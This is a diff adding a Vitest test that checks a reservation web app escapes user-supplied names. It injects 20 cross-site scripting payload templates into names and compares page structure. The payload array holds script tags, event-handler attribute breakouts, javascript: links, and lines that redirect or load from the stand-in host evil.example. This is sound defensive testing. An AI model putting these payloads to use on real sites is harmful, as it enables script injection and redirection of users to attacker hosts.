@@ -1,0 +1,172 @@
+// Tests that names are text on every page: 200 hostile ones, of members, venues, seatings and requests, give pages with
+// exactly the elements and attributes that harmless names give.
+import { describe, expect, it } from 'vitest'
+import { freePort } from '../../../bots/kit/testing/free-port.ts'
+import { cities } from '../../../sandbox/cities.ts'
+import type { VenueSpec } from '../../../sandbox/world.ts'
+import type { MemberId } from '../../../src/domain/ids.ts'
+import { addDays, type LocalDate, type LocalTime } from '../../../src/domain/time.ts'
+import { ben, openWorld } from '../world.ts'
+import { createPageClient } from './page-client.ts'
+import { formsOf, signIn } from './read-page.ts'
+import { whileTimePasses } from './while-time-passes.ts'
+
+const payloads = [
+  '"><script>live(#)</script>',
+  "'><script>live(#)</script>",
+  '<img src=x onerror=live(#)>',
+  '" onmouseover="live(#)" x="',
+  "' onfocus='live(#)' autofocus='",
+  '</textarea><script>live(#)</script>',
+  '</title><script>live(#)</script>',
+  '</option></select><b onclick=live(#)>',
+  '<svg onload=live(#)>',
+  '</text></svg><script>live(#)</script>',
+  '<!-- # --><script>live(#)</script>',
+  '<a href="javascript:live(#)">free</a>',
+  '<iframe srcdoc="<script>live(#)</script>">',
+  '<meta http-equiv=refresh content="0;url=//evil.example/#">',
+  '<base href=//evil.example/#>',
+  '<form action=//evil.example/#><input name=csrf>',
+  '" hx-get="//evil.example/#" hx-trigger="load',
+  '<style>*{background:url(//evil.example/#)}</style>',
+  '&lt;script&gt;live(#)&lt;/script&gt;<i #>',
+  '</dd></dl><link rel=stylesheet href=//evil.example/#>',
+] as const
+
+const venueCount = 40
+const namesPerVenue = 4
+
+type Name = (number: number) => string
+
+const hostile: Name = (number) => (payloads[number % payloads.length] ?? '').replaceAll('#', String(number))
+const harmless: Name = (number) => `Name ${number}`
+
+function venueOf(number: number, name: Name): VenueSpec {
+  const [first, second, third, fourth] = Array.from({ length: namesPerVenue }, (_none, index) =>
+    name(number * namesPerVenue + index),
+  ) as [string, string, string, string]
+  return {
+    ...{ id: 9000 + number, name: first, neighborhood: second, ...cities.newYork },
+    ...{ cuisine: 'Italian', minParty: 1, maxParty: 6, leadDays: 21, opensAt: '12:00' as LocalTime },
+    needToKnow: 'Reservations are released 21 days in advance at 12:00 pm.',
+    tables: [third, fourth].map((seating) => ({ time: '19:30' as LocalTime, seating, capacity: 2 })),
+  }
+}
+
+/** Returns the elements of a document with the names of their attributes, in order. */
+function structureOf(text: string): string {
+  const tag = /<(\/?[a-zA-Z!][^\s/>]*)((?:\s+[^\s=>"'/]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>"']+))?)*)\s*\/?>/g
+  return [...text.matchAll(tag)]
+    .map(([, name = '', attributes = '']) => {
+      const names = [...attributes.matchAll(/\s([^\s=>"'/]+)(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>"']+))?/g)]
+      return [name, ...names.map(([, one]) => one)].join(' ')
+    })
+    .join('\n')
+}
+
+/** Opens every page in a world with those names. Returns the documents by a name for each. */
+async function visitAll(name: Name): Promise<ReadonlyMap<string, string>> {
+  const port = await freePort()
+  const person = { password: 'secret', cards: [{ id: 1, type: 'visa', lastFour: '4242' }] } as const
+  const world = await openWorld({
+    env: { CIERGE_HTTP_PORT: `${port}` },
+    owners: [ben],
+    sandbox: {
+      world: {
+        venues: Array.from({ length: venueCount }, (_none, number) => venueOf(number, name)),
+        members: [{ email: 'ada@example.com', firstName: name(160), lastName: name(161), ...person }],
+      },
+    },
+  })
+  const browser = createPageClient(`http://localhost:${port}`)
+  const seen = new Map<string, string>()
+  const open = async (path: string, called = path) => {
+    const { text } = await whileTimePasses(world, browser.open(path))
+    seen.set(called, text)
+    return text
+  }
+  /** Fills in a form of the page, and notes what it answers. */
+  const fill = async (page: string, fields: Readonly<Record<string, string>>, called: string) => {
+    const form = formsOf(page).find((one) => (one.fields.do ?? '') === (fields.do ?? ''))
+    const { text, headers } = await whileTimePasses(
+      world,
+      browser.send(form?.action || called.replace(/^typed/, '/new').split(' ')[0] || '/', {
+        ...form?.fields,
+        ...fields,
+      }),
+    )
+    seen.set(called, text)
+    return { text, to: headers.get('location') ?? '' }
+  }
+
+  await world.says('/members limits 100', ben)
+  await world.says('/link resy ada@example.com secret')
+  await signIn(world, browser)
+  await world.clock.runUntil(world.cierge().app.store.members.rename('m-Ada' as MemberId, name(162)))
+  const requests: string[] = []
+  for (let number = 0; number < venueCount; number += 1) {
+    const date = addDays('2026-12-16' as LocalDate, number)
+    const table = { restaurant: `resy:${9000 + number}`, date, party: '2', from1: '19:00', until1: '21:00' }
+    const [third, fourth] = [name(number * namesPerVenue + 2), name(number * namesPerVenue + 3)]
+    const seating = { seating: third, avoid: fourth }
+    const draft = await fill(await open('/new'), { ...table, ...seating }, `/new ${number}`)
+    const { to } = await fill(draft.text, { do: 'confirm' }, `confirmed ${number}`)
+    requests.push(to)
+  }
+  const pages = ['/', '/new', '/accounts', '/settings', '/keys', '/calendar', '/sessions', '/data', '/leave']
+  for (const path of [...pages, '/accounts/resy/link', '/accounts/resy/unlink']) await open(path)
+  for (const [number, path] of requests.entries()) {
+    await open(path, `request ${number}`)
+    for (const what of ['change', 'again', 'watch', 'cancel'])
+      if (number < 10) await open(`${path}/${what}`, `${what} ${number}`)
+  }
+  await world.passUntil('2026-11-25T17:01:00Z')
+  const [booked = ''] = requests
+  for (const what of ['', '/hunt']) await open(`${booked}${what}`, `booked${what}`)
+  await open('/tables')
+  await open(`${booked.replace('/requests', '/tables')}/release`, 'release')
+  for (let number = 163; number < 200; number += 1) {
+    await world.clock.runUntil(world.cierge().app.store.members.rename('m-Ada' as MemberId, name(number)))
+    const typed = name(number)
+    // So that no page answers that it was called too often.
+    await world.pass(5_000)
+    await fill(
+      await open('/new', `as ${number}`),
+      { restaurant: typed, words: typed, from1: 'x' },
+      `typed ${number}`,
+    )
+    await fill(await open('/settings'), { zone: typed, city: typed }, `/settings ${number}`)
+    await fill(await open('/keys'), { do: 'make', name: typed, days: typed }, `/keys ${number}`)
+    const { text } = await whileTimePasses(world, browser.open(`/requests/${encodeURIComponent(typed)}`))
+    seen.set(`unknown ${number}`, text)
+  }
+  for (const number of [163, 164, 165, 166])
+    await fill(await open('/keys'), { do: 'make', name: name(number) }, `/keys made ${number}`)
+  await open('/keys')
+  await world.end()
+  return seen
+}
+
+describe('names on the page', () => {
+  it('200 hostile names add no element and no attribute to any page', async () => {
+    const [calm, wild] = [await visitAll(harmless), await visitAll(hostile)]
+    const usual = new Set([...calm.values()].flatMap((text) => structureOf(text).split('\n')))
+    // Words are read, so that a hostile one may be refused for another reason than a harmless one.
+    const isStrange = ([page, text]: readonly [string, string]) =>
+      page.startsWith('typed')
+        ? structureOf(text)
+            .split('\n')
+            .some((element) => !usual.has(element))
+        : structureOf(text) !== structureOf(calm.get(page) ?? '')
+    const differing = [...wild].filter(isStrange)
+    const all = [...wild.values()].join('\n')
+    const shown = Array.from({ length: 200 }, (_none, number) => number).filter(
+      (number) => all.includes(`(${number})`) || all.includes(`/${number}`) || all.includes(` ${number}&`),
+    )
+
+    expect(differing.map(([page]) => page)).toEqual([])
+    expect(wild.size).toBeGreaterThan(300)
+    expect(shown.length, `shown: ${shown.length}`).toBeGreaterThan(150)
+  }, 600_000)
+})
